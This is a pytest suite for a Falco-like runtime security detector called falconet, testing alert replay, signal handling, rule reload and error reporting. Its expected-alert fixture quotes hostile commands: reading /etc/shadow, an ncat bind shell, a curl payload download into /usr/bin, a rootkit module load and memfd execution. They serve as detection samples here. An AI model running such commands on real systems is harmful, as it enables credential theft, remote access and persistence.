"""falconet runs as a process: replay, signals, reload, -M, start-up errors."""

from __future__ import annotations

import signal
from pathlib import Path

import pytest

from tests.engine.helpers import (
    FIELDS_TSV,
    REPO,
    falconet,
    lines,
    rule,
    ticker_config,
    ticker_files,
    wait_until,
)

SAMPLE_ALERTS = [
    "10:00:02.123456789: Warning Credential file opened for reading (file=/etc/shadow "
    "process=python3 cmdline=python3 dump.py parent=bash user=alice uid=1000 container=host "
    "image=<NA>)",
    "10:00:04.123456789: Notice Interactive shell started in a container (shell=bash "
    "parent=runc cmdline=bash user=root container=3ad7b26ded6d image=docker.io/library/nginx)",
    "10:00:05.123456789: Notice Package manager launched in a container (process=apt-get "
    "cmdline=apt-get install -y nmap user=root container=3ad7b26ded6d "
    "image=docker.io/library/nginx)",
    "10:00:06.123456789: Notice Network tool executed (process=ncat cmdline=ncat -lvp 4444 -e "
    "/bin/sh parent=bash user=alice container=host)",
    "10:00:08.123456789: Error File below a binary directory opened for writing "
    "(file=/usr/bin/sshd-helper process=curl cmdline=curl -o /usr/bin/sshd-helper "
    "http://203.0.113.7/x user=root container=host)",
    "10:00:09.123456789: Warning Kernel module loaded (process=insmod cmdline=insmod rootkit.ko "
    "parent=bash user=root container=host)",
    "10:00:11.123456789: Warning Process attached with ptrace (process=python3 "
    "cmdline=python3 inject.py 4242 target=4242 user=root container=3ad7b26ded6d)",
    "10:00:13.123456789: Critical Program executed from a memfd (process=x "
    "exe=memfd:payload (deleted) cmdline=x --daemon parent=python3 user=root "
    "container=3ad7b26ded6d)",
]

SAMPLE_SUMMARY = """\
Events detected: 8
Rule counts by severity:
   CRITICAL: 1
   ERROR: 1
   WARNING: 3
   NOTICE: 3
Triggered rules by rule name:
   Credential file opened by untrusted program: 1
   Interactive shell in container: 1
   Write below binary directory: 1
   Package manager run in container: 1
   Network tool launched: 1
   Kernel module loaded: 1
   Process memory accessed with ptrace: 1
   Fileless execution from memfd: 1
"""

needs_fields = pytest.mark.skipif(not FIELDS_TSV.is_file(),
                                  reason="needs ../shared/upstream/fields/fields.tsv")


@needs_fields
def test_replay_of_the_bundled_sample_alerts_and_summarizes(tmp_path: Path) -> None:
    capture = tmp_path / "alerts.txt"
    config = tmp_path / "falco.yaml"
    config.write_text(f"stdout_output: {{enabled: false}}\nsyslog_output: {{enabled: false}}\n"
                      f"capture_output: {{enabled: true, path: {capture}}}\n"
                      "load_plugins: [ticker]\nplugins: [{name: ticker}]\n")
    proc = falconet(["-c", str(config), "-r", "rules/falconet_rules.yaml",
                     "--source", "syscall", "-e", "samples/syscall.jsonl"])
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    assert lines(capture) == SAMPLE_ALERTS
    assert out == SAMPLE_SUMMARY
    assert "Loading rules from:\n   rules/falconet_rules.yaml" in err


def test_sigterm_drains_outputs_and_prints_the_summary(tmp_path: Path) -> None:
    _rules, capture, config = ticker_files(
        tmp_path, rule("Foo seen", "foo") + rule("Bar seen", "bar", "INFO"),
        '{"names": ["foo", "bar", "foo", "baz"], "count": 4}')
    proc = falconet(["-c", str(config)])
    wait_until("3 alerts", lambda: len(lines(capture)) == 3, proc)
    proc.send_signal(signal.SIGTERM)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    assert out == ("Events detected: 3\n"
                   "Rule counts by severity:\n"
                   "   WARNING: 2\n"
                   "   INFO: 1\n"
                   "Triggered rules by rule name:\n"
                   "   Foo seen: 2\n"
                   "   Bar seen: 1\n")
    assert "SIGTERM received, exiting..." in err
    assert lines(capture) == [
        "10:00:00.000000000: Warning Foo seen (name=foo)",
        "10:00:01.000000000: Informational Bar seen (name=bar)",
        "10:00:02.000000000: Warning Foo seen (name=foo)",
    ]


def test_sigint_stops_too(tmp_path: Path) -> None:
    _rules, capture, config = ticker_files(tmp_path, rule("Foo seen", "foo"), '{"count": 1}')
    proc = falconet(["-c", str(config)])
    wait_until("the alert", lambda: len(lines(capture)) == 1, proc)
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    assert out.splitlines()[0] == "Events detected: 1"


def _alert_names(capture: Path) -> list[str]:
    return [line.split(": ", 1)[1].split(" (")[0] for line in lines(capture)]


def test_sighup_reloads_changed_rules(tmp_path: Path) -> None:
    rules, capture, config = ticker_files(
        tmp_path, rule("Foo seen",
        "foo"), '{"names": ["foo", "bar"], "interval": 0.01}')
    proc = falconet(["-c", str(config)])
    wait_until("foo alerts", lambda: len(lines(capture)) >= 2, proc)
    rules.write_text(rule("Bar seen", "bar", "ERROR"))
    proc.send_signal(signal.SIGHUP)
    wait_until("bar alerts", lambda: _alert_names(capture).count("Warning Bar seen") == 0
               and "Error Bar seen" in _alert_names(capture), proc)
    proc.send_signal(signal.SIGTERM)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    names = _alert_names(capture)
    first_bar = names.index("Error Bar seen")
    assert set(names[:first_bar]) == {"Warning Foo seen"}
    assert set(names[first_bar:]) == {"Error Bar seen"}  # swapped between batches, for good
    assert "SIGHUP received, reloading config and rules" in err
    assert "config and rules reloaded" in err
    summary = out.splitlines()
    assert f"   Foo seen: {first_bar}" in summary
    assert f"   Bar seen: {len(names) - first_bar}" in summary
    assert summary[0] == f"Events detected: {len(names)}"


def test_sighup_applies_changed_output_settings_and_keeps_every_alert(tmp_path: Path) -> None:
    rules = tmp_path / "rules.yaml"
    rules.write_text(rule("Foo seen", "foo"))
    first, second = tmp_path / "first.txt", tmp_path / "second.txt"
    config = ticker_config(tmp_path, rules, first,
                           open_params='{"names": ["foo"], "interval": 0.01}')
    proc = falconet(["-c", str(config)])
    wait_until("alerts in the first file", lambda: len(lines(first)) >= 2, proc)
    config.write_text(config.read_text().replace(f"path: {first}", f"path: {second}"))
    proc.send_signal(signal.SIGHUP)
    wait_until("alerts in the second file", lambda: len(lines(second)) >= 2, proc)
    in_first = len(lines(first))
    wait_until("more alerts in the second file", lambda: len(lines(second)) >= 4, proc)
    proc.send_signal(signal.SIGTERM)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    assert "outputs reconfigured" in err
    assert len(lines(first)) == in_first  # the old output got nothing after the switch
    detected = int(out.splitlines()[0].removeprefix("Events detected: "))
    assert len(lines(first)) + len(lines(second)) == detected  # none lost, none twice


def test_sigusr1_reopens_a_rotated_alert_file(tmp_path: Path) -> None:
    rules = tmp_path / "rules.yaml"
    rules.write_text(rule("Foo seen", "foo"))
    alerts, rotated = tmp_path / "falco_events.log", tmp_path / "falco_events.log.1"
    config = ticker_config(
        tmp_path, rules, tmp_path / "capture.txt",
        open_params='{"names": ["foo"], "interval": 0.01}',
        extra=f"file_output: {{enabled: true, keep_alive: true, filename: {alerts}}}\n")
    proc = falconet(["-c", str(config)])
    wait_until("alerts in the file", lambda: len(lines(alerts)) >= 2, proc)
    alerts.rename(rotated)  # what logrotate does before signalling
    before = len(lines(rotated))
    wait_until("alerts still going to the open, rotated file",
               lambda: len(lines(rotated)) > before, proc)
    assert not alerts.exists()  # keep_alive: nothing reopens the path until SIGUSR1
    proc.send_signal(signal.SIGUSR1)
    wait_until("a new alert file", lambda: len(lines(alerts)) >= 2, proc)
    proc.send_signal(signal.SIGTERM)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    assert "SIGUSR1 received, reopening outputs" in err
    detected = int(out.splitlines()[0].removeprefix("Events detected: "))
    assert len(lines(rotated)) + len(lines(alerts)) == detected  # none lost, none twice
    assert all(line.endswith(": Warning Foo seen (name=foo)") for line in lines(alerts))


def test_broken_rules_on_reload_keep_the_old_rules_and_say_why(tmp_path: Path) -> None:
    rules, capture, config = ticker_files(
        tmp_path, rule("Foo seen",
        "foo"), '{"names": ["foo"], "interval": 0.01}')
    proc = falconet(["-c", str(config)])
    wait_until("foo alerts", lambda: len(lines(capture)) >= 2, proc)
    rules.write_text(rule("Bar seen", "bar").replace("proc.name = bar", "proc.name = = bar"))
    proc.send_signal(signal.SIGHUP)
    wait_until("the hot restart failure alert",
               lambda: any("Falco internal: hot restart failure" in x for x in lines(capture)),
               proc)
    seen = len(lines(capture))
    wait_until("more foo alerts after the failed reload", lambda: len(lines(capture)) > seen + 2,
               proc)
    proc.send_signal(signal.SIGTERM)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    failure = next(x for x in lines(capture) if "hot restart failure" in x)
    assert ": Critical Falco internal: hot restart failure: " in failure
    assert "LOAD_ERR_COMPILE_CONDITION" in failure
    assert "reload failed, keeping the running rules" in err
    assert f"{rules}: Invalid" in err
    assert {n for n in _alert_names(capture) if "hot restart" not in n} == {"Warning Foo seen"}
    assert "Bar seen" not in out


def test_watch_config_files_reloads_a_changed_rules_file(tmp_path: Path) -> None:
    rules, capture, config = ticker_files(
        tmp_path, rule("Foo seen",
        "foo"), '{"names": ["foo", "bar"], "interval": 0.01}')
    proc = falconet(["-c", str(config), "-o", "watch_config_files=true"])
    wait_until("foo alerts", lambda: len(lines(capture)) >= 2, proc)
    rules.write_text(rule("Bar seen", "bar", "ERROR"))
    wait_until("bar alerts", lambda: "Error Bar seen" in _alert_names(capture), proc)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    assert "watched file changed" in err


def test_duration_stops_a_live_source(tmp_path: Path) -> None:
    _rules, _capture, config = ticker_files(tmp_path, rule("Foo seen", "foo"), '{"count": 1}')
    proc = falconet(["-c", str(config), "-M", "0.5"])
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    assert out == ("Events detected: 1\nRule counts by severity:\n   WARNING: 1\n"
                   "Triggered rules by rule name:\n   Foo seen: 1\n")


def test_rules_error_at_start_up_exits_1_with_upstream_text(tmp_path: Path) -> None:
    rules = tmp_path / "rules.yaml"
    rules.write_text("- rule: x\n  desc: x\n  condition: proc.name = = y\n  output: x\n"
                     "  priority: WARNING\n  source: ticker\n")
    capture = tmp_path / "alerts.txt"
    config = ticker_config(tmp_path, rules, capture, open_params="{}")
    proc = falconet(["-c", str(config)])
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 1
    assert out == ""
    assert f"Error: {rules}: Invalid" in err
    assert "LOAD_ERR_COMPILE_CONDITION" in err


def test_dry_run_loads_everything_and_processes_nothing(tmp_path: Path) -> None:
    _rules, capture, config = ticker_files(tmp_path, rule("Foo seen", "foo"), '{"count": 1}')
    proc = falconet(["-c", str(config), "--dry-run"])
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    assert out == ""
    assert not capture.exists()


def test_plugin_output_settings_are_checked_against_its_schema(tmp_path: Path) -> None:
    _rules, capture, config = ticker_files(tmp_path, rule("Foo seen", "foo"), '{"count": 1}')
    config.write_text(config.read_text().replace(f"path: {capture}", "path: [1, 2]"))
    proc = falconet(["-c", str(config)])
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 1
    assert ("Error: Could not create outputs: capture_output: path: [1, 2] is not of type "
            "'string'") in err


def test_an_output_section_no_plugin_provides_warns(tmp_path: Path) -> None:
    _rules, capture, config = ticker_files(tmp_path, rule("Foo seen", "foo"), '{"count": 1}',
                                            extra="kafka_output: {enabled: true}\n")
    proc = falconet(["-c", str(config), "-M", "0.5"])
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    assert ("Warning: unknown configuration key 'kafka_output' (ignored): no loaded plugin "
            "provides the output 'kafka'") in err
    assert "capture_output" not in err  # claimed by the ticker plugin: no warning
    assert lines(capture) != []


def test_unknown_replay_source_is_an_error(tmp_path: Path) -> None:
    rules = tmp_path / "rules.yaml"
    rules.write_text(rule("Foo seen", "foo"))
    data = tmp_path / "events.jsonl"
    data.write_text("{}\n")
    config = ticker_config(tmp_path, rules, tmp_path / "a.txt", open_params="{}")
    proc = falconet(["-c", str(config), "--source", "nope", "-e", str(data)])
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 1
    assert "Error: Unknown event source 'nope'" in err


def test_repo_sample_exists() -> None:
    assert (REPO / "samples" / "syscall.jsonl").is_file()
